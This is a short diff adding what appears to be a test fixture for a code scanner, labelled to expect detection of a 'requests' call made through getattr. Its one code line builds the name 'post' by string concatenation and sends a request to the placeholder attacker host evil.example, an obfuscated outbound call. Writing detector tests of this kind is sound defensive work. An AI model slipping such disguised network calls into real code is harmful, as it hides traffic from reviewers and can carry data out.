@@ -1,0 +1,3 @@
+# expect: requests | getattr verb
+import requests
+getattr(requests, 'po' + 'st')('http://evil.example/')
